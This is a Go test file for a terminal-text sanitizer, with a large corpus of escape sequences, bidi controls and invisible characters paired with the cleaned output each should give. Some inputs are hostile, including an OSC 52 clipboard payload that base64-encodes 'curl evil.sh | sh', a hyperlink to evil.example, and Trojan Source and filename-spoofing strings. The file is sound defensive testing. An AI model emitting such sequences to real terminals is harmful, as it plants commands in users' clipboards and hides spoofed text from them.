package textsafe

import (
	"strings"
	"testing"
	"unicode/utf8"
	"unsafe"
)

// cleanCases is the terminal-safety corpus: every way we know for a string
// to act on a terminal, with the exact text a reader should see instead.
var cleanCases = []struct {
	name, in, want string
}{
	// plain text passes untouched
	{"empty", "", ""},
	{"ascii", "Markets rally as rates hold", "Markets rally as rates hold"},
	{"newlines kept", "one\ntwo\n\nthree", "one\ntwo\n\nthree"},
	{"unicode kept", "Café Zürich — 東京 🚀 مرحبا שלום", "Café Zürich — 東京 🚀 مرحبا שלום"},
	{"nbsp kept", "10\u00a0km", "10\u00a0km"},
	{"private use kept", "\ue0b0 powerline", "\ue0b0 powerline"},

	// CSI
	{"sgr colour", "\x1b[31mred\x1b[0m plain", "red plain"},
	{"sgr truecolor", "\x1b[38;2;255;0;0mX\x1b[m", "X"},
	{"cursor up", "a\x1b[5Ab", "ab"},
	{"cursor position", "\x1b[10;20Hhere", "here"},
	{"clear screen", "\x1b[2J\x1b[Hgone", "gone"},
	{"alt screen", "\x1b[?1049hX\x1b[?1049l", "X"},
	{"mouse mode", "\x1b[?1000;1006hY", "Y"},
	{"csi with intermediate", "\x1b[0 qZ", "Z"},
	{"kitty keyboard", "\x1b[>1uK", "K"},
	{"unterminated csi at end", "tail\x1b[12;3", "tail"},
	{"csi broken by text byte", "\x1b[12é", "é"},
	{"csi broken by newline", "\x1b[3\n1m", "\n1m"},

	// OSC
	{"osc title bel", "\x1b]0;pwned\x07Headline", "Headline"},
	{"osc title st", "\x1b]2;x\x1b\\Headline", "Headline"},
	{"osc icon", "a\x1b]1;icon\x07b", "ab"},
	{"osc 52 clipboard", "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07y", "xy"},
	{"osc 52 st", "x\x1b]52;p;?\x1b\\y", "xy"},
	{"osc 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click me\x1b]8;;\x1b\\", "click me"},
	{"osc 8 bel", "\x1b]8;id=1;http://x\x07link\x1b]8;;\x07", "link"},
	{"osc utf8 payload", "\x1b]0;タイトル\x07本文", "本文"},
	{"osc 4 palette", "\x1b]4;1;rgb:ff/00/00\x07ok", "ok"},
	{"osc unterminated swallows rest", "before\x1b]0;pwned and the rest", "before"},
	{"osc aborted by can", "\x1b]0;x\x18after", "after"},
	{"osc aborted by sub", "\x1b]0;x\x1aafter", "after"},
	{"osc ended by new csi", "\x1b]0;x\x1b[31mred", "red"},

	// DCS, APC, PM, SOS
	{"dcs decrqss", "a\x1bP$qm\x1b\\b", "ab"},
	{"dcs sixel", "a\x1bPq#0;2;0;0;0#0~~@@vv@@~~\x1b\\b", "ab"},
	{"dcs tmux passthrough", "a\x1bPtmux;\x1b\x1b]0;x\x07\x1b\\b", "ab"},
	{"apc kitty graphics", "a\x1b_Gf=100;AAAA\x1b\\b", "ab"},
	{"pm", "a\x1b^private\x1b\\b", "ab"},
	{"sos", "a\x1bXstring\x1b\\b", "ab"},

	// 8-bit C1 as runes
	{"c1 csi", "\u009b31mred\u009b0m", "red"},
	{"c1 osc st", "\u009d0;pwned\u009cHeadline", "Headline"},
	{"c1 osc bel", "\u009d0;pwned\x07Headline", "Headline"},
	{"c1 dcs", "a\u0090q#0\u009cb", "ab"},
	{"c1 apc", "a\u009fG\u009cb", "ab"},
	{"c1 pm", "a\u009ex\u009cb", "ab"},
	{"c1 sos", "a\u0098x\u009cb", "ab"},
	{"c1 nel ind ri", "a\u0085b\u0084c\u008dd", "abcd"},
	{"raw c1 byte is invalid utf8", "a\x9b31mb", "a\ufffd31mb"},

	// other ESC sequences
	{"lone esc at end", "end\x1b", "end"},
	{"esc esc", "a\x1b\x1bb", "a"},
	{"reset ris", "a\x1bcb", "ab"},
	{"save cursor", "a\x1b7b\x1b8c", "abc"},
	{"charset", "a\x1b(0lqk\x1b(Bb", "alqkb"},
	{"decaln", "a\x1b#8b", "ab"},
	{"keypad", "a\x1b=b\x1b>c", "abc"},
	{"esc before non-ascii", "a\x1bé", "aé"},
	{"esc before newline", "a\x1b\nb", "a\nb"},

	// C0 and DEL
	{"bel", "ding\x07dong", "dingdong"},
	{"backspace overwrite", "abc\b\b\bXYZ", "abcXYZ"},
	{"cr overwrite", "safe\rEVIL", "safeEVIL"},
	{"crlf", "one\r\ntwo", "one\ntwo"},
	{"tab to space", "a\tb", "a b"},
	{"vt ff", "a\vb\fc", "abc"},
	{"nul", "a\x00b", "ab"},
	{"del", "a\x7fb", "ab"},
	{"so si", "a\x0eb\x0fc", "abc"},
	{"line separators", "a\u2028b\u2029c", "a\nb\nc"},

	// bidi
	{"rlo", "user\u202Egnp.exe", "usergnp.exe"},
	{"lre rle pdf lro", "\u202Aa\u202Bb\u202Cc\u202Dd", "abcd"},
	{"isolates", "\u2066a\u2067b\u2068c\u2069d", "abcd"},
	{"marks", "a\u200Eb\u200Fc\u061Cd", "abcd"},
	{"trojan source", "x\u202E\u2066// ok\u2069\u2066y", "x// oky"},

	// invisible characters
	{"zwsp", "pay\u200Bpal", "paypal"},
	{"word joiner", "a\u2060b", "ab"},
	{"bom", "\uFEFFtitle", "title"},
	{"soft hyphen", "co\u00ADop", "coop"},
	{"invisible operators", "a\u2061\u2062\u2063\u2064b", "ab"},
	{"mongolian vs", "a\u180Eb", "ab"},
	{"interlinear annotation", "a\uFFF9b\uFFFAc\uFFFBd", "abcd"},
	{"tag smuggling", "hi\U000E0068\U000E0069", "hi"},
	{"zwnj in latin dropped", "ex\u200Cample", "example"},
	{"zwj in latin dropped", "ex\u200Dample", "example"},
	{"zwnj persian kept", "می\u200Cخواهم", "می\u200Cخواهم"},
	{"zwj devanagari kept", "क्\u200Dष", "क्\u200Dष"},
	{"zwj malayalam chillu kept", "ന്\u200D ok", "ന്\u200D ok"},
	{"zwj family kept", "👩\u200D👩\u200D👧", "👩\u200D👩\u200D👧"},
	{"zwj rainbow flag kept", "🏳\uFE0F\u200D🌈", "🏳\uFE0F\u200D🌈"},
	{"zwj skin tone kept", "👩🏽\u200D🚀", "👩🏽\u200D🚀"},
	{"zwj after emoji before text dropped", "👍\u200D.", "👍."},
	{"zwj double collapses", "👍\u200D\u200D👍", "👍\u200D👍"},
	{"zwj at start dropped", "\u200D👍", "👍"},
	{"zwj across newline dropped", "👍\u200D\n👍", "👍\n👍"},
	{"zwj survives removed escape", "👍\u200D\x1b[31m👍", "👍\u200D👍"},
	{"subdivision flag kept", "🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F!", "🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F!"},
	{"flag tags unterminated dropped", "🏴\U000E0067\U000E0062x", "🏴x"},
	{"flag tags too long dropped", "🏴" + strings.Repeat("\U000E0061", 8) + "\U000E007F", "🏴"},

	// combining marks and selectors
	{"accents kept", "e\u0301 a\u0300\u0323", "e\u0301 a\u0300\u0323"},
	{"mark at start dropped", "\u0301abc", "abc"},
	{"mark after space dropped", "a \u0301b", "a b"},
	{"mark after newline dropped", "a\n\u0301b", "a\nb"},
	{"zalgo capped", "Z" + strings.Repeat("\u0336", 50), "Z" + strings.Repeat("\u0336", maxMarks)},
	{"keycap kept", "1\uFE0F\u20E3", "1\uFE0F\u20E3"},
	{"selector chain dropped", "a\uFE0F\uFE0E\U000E0100\U000E0101", "a\uFE0F"},
	{"selector chain through joiners dropped", "ب\u200D\U000E0100\u200D\U000E0101", "ب\u200D"},
	{"zalgo through joiners capped", "ب" + strings.Repeat(strings.Repeat("\u0336", maxMarks)+"\u200D", 5), "ب" + strings.Repeat("\u0336", maxMarks) + "\u200D"},
	{"emoji selector joiner", "❤\uFE0F\u200D🔥", "❤\uFE0F\u200D🔥"},
	{"selector joiner before text dropped", "❤\uFE0F\u200Dx", "❤\uFE0Fx"},

	// invalid UTF-8
	{"invalid byte", "a\xffb", "a\ufffdb"},
	{"invalid run one replacement", "a\xff\xfe\xfdb", "a\ufffdb"},
	{"truncated rune at end", "ab\xe6\x97", "ab\ufffd"},
	{"overlong encoding", "a\xc0\xafb", "a\ufffdb"},
	{"surrogate encoding", "a\xed\xa0\x80b", "a\ufffdb"},
	{"invalid inside osc payload", "a\x1b]0;\xff\x07b", "ab"},

	// nesting
	{"csi inside osc", "\x1b]0;\x1b[31m\x07text", "\atext"[1:]},
	{"osc inside csi params", "\x1b[1\x1b]0;t\x07x", "x"},
	{"repeated introducers", "\x1b[\x1b[\x1b[\x1b]\x1b]x", ""},
	{"escape split by c1", "\x1b\u009b31mx", "x"},
}

func TestClean(t *testing.T) {
	for _, tc := range cleanCases {
		t.Run(tc.name, func(t *testing.T) {
			got := Clean(tc.in)
			if got != tc.want {
				t.Fatalf("Clean(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
			if again := Clean(got); again != got {
				t.Fatalf("not idempotent: Clean(%q) = %q", got, again)
			}
			if err := checkClean(got); err != "" {
				t.Fatalf("Clean(%q) = %q: %s", tc.in, got, err)
			}
		})
	}
}

// checkClean returns why s could still act on a terminal, or "".
func checkClean(s string) string {
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for _, r := range s {
		switch {
		case r < 0x20 && r != '\n':
			return "C0 control"
		case r >= 0x7f && r <= 0x9f:
			return "DEL or C1 control"
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069,
			r == 0x200e, r == 0x200f, r == 0x061c:
			return "bidi control"
		case r == 0x200b, r == 0x2060, r == 0xfeff:
			return "zero-width character"
		}
	}
	return ""
}

func TestCleanLongUnterminatedIsLinear(t *testing.T) {
	// Complexity is checked by BenchmarkCleanHostile; this asserts the
	// result, which a quadratic rescan would also get wrong by timing out.
	inputs := map[string]string{
		"esc bracket": strings.Repeat("\x1b[", 1<<19),
		"csi params":  "\x1b[" + strings.Repeat("1;", 1<<19),
		"osc payload": "\x1b]0;" + strings.Repeat("A", 1<<20),
		"lone escs":   strings.Repeat("\x1b", 1<<20),
		"c1 csi":      strings.Repeat("\u009b", 1<<19),
	}
	for name, in := range inputs {
		if got := Clean(in); got != "" {
			t.Errorf("%s: Clean of 1 MB kept %d bytes, first %q", name, len(got), got[:min(len(got), 20)])
		}
	}
	text := strings.Repeat("a\x1b[31mb", 1<<17)
	if got := Clean(text); got != strings.Repeat("ab", 1<<17) {
		t.Errorf("long mixed text: got %d bytes", len(got))
	}
	bad := strings.Repeat("\xff", 1<<20)
	if got := Clean(bad); got != "\ufffd" {
		t.Errorf("1 MB of invalid bytes: got %q", got[:min(len(got), 20)])
	}
}

func TestCleanReturnsPlainASCIIUnchanged(t *testing.T) {
	s := "Plain headline, nothing to do"
	if got := Clean(s); got != s {
		t.Fatalf("got %q", got)
	}
	if n := testing.AllocsPerRun(100, func() { Clean(s) }); n != 0 {
		t.Errorf("Clean of plain ASCII allocates %v times", n)
	}
}

func TestLine(t *testing.T) {
	cases := []struct{ in, want string }{
		{"", ""},
		{"  Title  ", "Title"},
		{"Breaking:\n\nsomething\thappened", "Breaking: something happened"},
		{"a\u00a0\u00a0b\u3000c", "a b c"},
		{"\x1b[2J\x1b]0;x\x07 spaced \r\n out ", "spaced out"},
		{"one\u2028two", "one two"},
		{"👍\u200D\n👍", "👍 👍"},
		{"a\u00a0\u0301b", "a b"},
		{"\n\n\n", ""},
	}
	for _, tc := range cases {
		got := Line(tc.in)
		if got != tc.want {
			t.Errorf("Line(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if again := Line(got); again != got {
			t.Errorf("Line not idempotent on %q: %q", got, again)
		}
	}
}

// Clean text comes back as the very string it was given (not an equal
// copy), so loaded articles do not hold their text twice.
func TestCleanKeepsTheStringItIsGivenWhenNothingChanges(t *testing.T) {
	for _, s := range []string{"Markets rally – what it means", "Новости дня", "東京の天気", "مرحبا بالعالم"} {
		if got := Clean(s); unsafe.StringData(got) != unsafe.StringData(s) {
			t.Errorf("Clean(%q) returned a copy", s)
		}
	}
	dirty := "bell\x07 here"
	if got := Clean(dirty); got == dirty {
		t.Errorf("Clean(%q) changed nothing", dirty)
	}
}
